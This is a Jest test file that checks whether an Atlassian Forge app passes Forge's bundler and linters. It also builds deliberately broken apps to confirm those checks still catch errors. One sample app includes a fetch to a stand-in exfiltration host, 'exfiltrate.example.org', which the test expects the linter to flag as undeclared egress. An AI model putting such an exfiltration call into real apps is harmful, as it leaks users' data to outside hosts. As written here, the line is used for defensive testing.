/**
 * `forge deploy` would accept this app: Forge's own bundler builds it and the linters `forge lint` runs on the
 * machine find nothing (forge-check.ts says exactly how both are called). A second, deliberately broken app proves
 * the checks still see problems, so a check that silently stopped checking fails here too.
 *
 * Each check runs in a child Node process (webpack and the linters change directory and load ~1 GB of compiler
 * state; jest's module registry is not where they run for real), the two side by side.
 */
import { execFile, execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { BundleReport, LintReport } from './forge-check';

const APP_DIR = path.resolve(__dirname, '../..');
const CHECK = path.join(__dirname, 'forge-check.ts');
// About 30 s each on two idle cores; on a machine shared with other test runs they have taken over 2 minutes.
const CHILD_TIMEOUT_MS = 480_000;

type Reports = { bundle: BundleReport; lint: LintReport };

function runCheck<K extends keyof Reports>(what: K, appDir: string, scratch: string): Promise<Reports[K]> {
  const json = path.join(scratch, `${what}.json`);
  // --max-semi-space-size: the linters' parse allocates heavily; a larger young generation halves their GC time.
  const args = ['--max-semi-space-size=64', '--require', 'tsx/cjs', CHECK, what, '--app', appDir, '--json', json];
  const env = { ...process.env, FORCE_COLOR: '0', XDG_CONFIG_HOME: path.join(scratch, 'config') };
  return new Promise((resolve, reject) => {
    execFile(process.execPath, args, { cwd: APP_DIR, env, timeout: CHILD_TIMEOUT_MS, maxBuffer: 64 * 1024 * 1024 }, (error, _stdout, stderr) => {
      // Exit 1 only says the report has problems; anything else (no report) is the check itself failing.
      if (!fs.existsSync(json)) {
        reject(new Error(`forge-check ${what} on ${appDir} wrote no report (${error?.message ?? 'exit 0'}):\n${stderr}`));
        return;
      }
      resolve((JSON.parse(fs.readFileSync(json, 'utf8')) as Reports)[what]);
    });
  });
}

function messages(report: BundleReport | LintReport): string[] {
  return report.problems.map((p) => `${p.level}: ${p.message}`);
}

describe('this app, as forge deploy bundles and lints it', () => {
  let scratch: string;
  let bundle: BundleReport;
  let lint: LintReport;

  beforeAll(async () => {
    // The manifest's `ui` resource must exist for the linters (npm test builds it first; a lone `npx jest` may not have).
    if (!fs.existsSync(path.join(APP_DIR, 'static/app/build/index.html'))) {
      execFileSync(process.execPath, [path.join(APP_DIR, 'node_modules/vite/bin/vite.js'), 'build', 'static/app', '--logLevel', 'warn'], { cwd: APP_DIR, stdio: 'inherit' });
    }
    scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'sv0-forge-check-'));
    [bundle, lint] = await Promise.all([runCheck('bundle', APP_DIR, scratch), runCheck('lint', APP_DIR, scratch)]);
    console.log(`forge-check: bundle ${(bundle.ms / 1000).toFixed(1)} s, lint ${(lint.ms / 1000).toFixed(1)} s`);
  }, CHILD_TIMEOUT_MS + 10_000);

  afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));

  it('is built by @forge/bundler, with the TypeScript it ships, without an error or a warning', () => {
    expect(messages(bundle)).toEqual([]);
    const bundlerPackage = JSON.parse(fs.readFileSync(require.resolve('@forge/bundler/package.json'), 'utf8')) as { dependencies: Record<string, string> };
    expect(bundle.typescript).toBe(bundlerPackage.dependencies.typescript);
    expect(bundle.entryPoints).toEqual(['src/index']);
  });

  it('exports every manifest handler from the built file', () => {
    expect(bundle.handlers.length).toBeGreaterThan(0);
    expect(bundle.exported).toEqual(bundle.handlers);
  });

  it('passes every client-side linter of forge lint, over every file in src/, with no error, approval or warning', () => {
    expect(messages(lint)).toEqual([]);
    expect(lint.linters).toEqual(expect.arrayContaining(['PermissionLinter', 'FullManifestLinter', 'HandlerLinter', 'FunctionTimeoutLinter']));
    expect(lint.files).toBeGreaterThan(50);
  });
});

/** A one-function app in `dir` whose src/index.ts is `source`, resolving packages from this app's node_modules. */
function writeApp(dir: string, source: string[]): string {
  fs.mkdirSync(path.join(dir, 'src'), { recursive: true });
  fs.symlinkSync(path.join(APP_DIR, 'node_modules'), path.join(dir, 'node_modules'), 'dir');
  const manifest = [
    'app:',
    '  id: ari:cloud:ecosystem::app/00000000-0000-4000-8000-0000000000ba',
    '  runtime:',
    '    name: nodejs22.x',
    'modules:',
    '  scheduledTrigger:',
    '    - key: bad-trigger',
    '      function: bad',
    '      interval: day',
    '  function:',
    '    - key: bad',
    '      handler: index.run',
    '    - key: gone',
    '      handler: index.missing',
    'permissions:',
    '  scopes:',
    '    - read:jira-work',
  ];
  fs.writeFileSync(path.join(dir, 'manifest.yml'), `${manifest.join('\n')}\n`);
  fs.writeFileSync(path.join(dir, 'src', 'index.ts'), `${source.join('\n')}\n`);
  const tsconfig = { compilerOptions: { target: 'ES2022', module: 'node16', moduleResolution: 'node16', strict: true, skipLibCheck: true, types: [] }, include: ['src/**/*'] };
  fs.writeFileSync(path.join(dir, 'tsconfig.json'), JSON.stringify(tsconfig));
  return dir;
}

describe('apps forge deploy must reject', () => {
  let scratch: string;
  let bundle: BundleReport;
  let lint: LintReport;

  beforeAll(async () => {
    scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'sv0-forge-reject-'));
    const mistyped = writeApp(path.join(scratch, 'mistyped'), [
      'export async function run(): Promise<number> {',
      "  const count: number = 'three';",
      '  return count;',
      '}',
    ]);
    const overreaching = writeApp(path.join(scratch, 'overreaching'), [
      "import api, { route } from '@forge/api';",
      '',
      'export async function run(): Promise<number> {',
      '  const audit = await api.asApp().requestJira(route`/rest/api/3/auditing/record`);',
      "  await api.fetch('https://exfiltrate.example.org/collect');",
      '  return audit.status;',
      '}',
    ]);
    [bundle, lint] = await Promise.all([runCheck('bundle', mistyped, scratch), runCheck('lint', overreaching, scratch)]);
  }, CHILD_TIMEOUT_MS + 10_000);

  afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));

  it('fails the bundle on a type error, as ts-loader reports it', () => {
    expect(messages(bundle)).toEqual([expect.stringMatching(/TypeScript errors in the app caused the bundling to fail[\s\S]*src\/index\.ts\(2,9\)[\s\S]*TS2322/)]);
  });

  it('fails lint on an undeclared scope and egress host, and warns of a handler that is not exported', () => {
    expect(messages(lint)).toEqual([
      'error: src/index.ts:4:46 Jira endpoint: GET /rest/api/3/auditing/record requires "manage:jira-configuration" scope (permission-scope-required)',
      'error: src/index.ts:5:18 The domain https://exfiltrate.example.org/collect is not included in the "permissions.external.fetch" section of your app\'s manifest.yml file (egress-permission-required)',
      expect.stringMatching(/^warning: .*Cannot find exported function "missing", which is required by module "gone" handler/),
    ]);
  });
});
